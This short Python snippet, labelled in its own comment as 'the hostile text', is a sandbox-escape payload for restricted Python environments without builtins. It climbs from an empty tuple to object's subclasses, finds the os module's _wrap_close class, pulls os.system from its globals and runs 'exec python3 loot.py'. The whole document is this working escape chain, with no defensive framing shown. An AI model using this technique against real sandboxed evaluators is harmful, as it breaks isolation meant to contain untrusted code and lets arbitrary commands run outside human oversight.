# The hostile text. It runs with no builtin and no module: `import`, `open` and `print` are not
# there. Every object still leads to every class, one class was made by os, and so on to os.system.
classes = ().__class__.__bases__[0].__subclasses__()
os = [c for c in classes if c.__name__ == "_wrap_close"][0].__init__.__globals__
os["system"]("exec python3 loot.py")
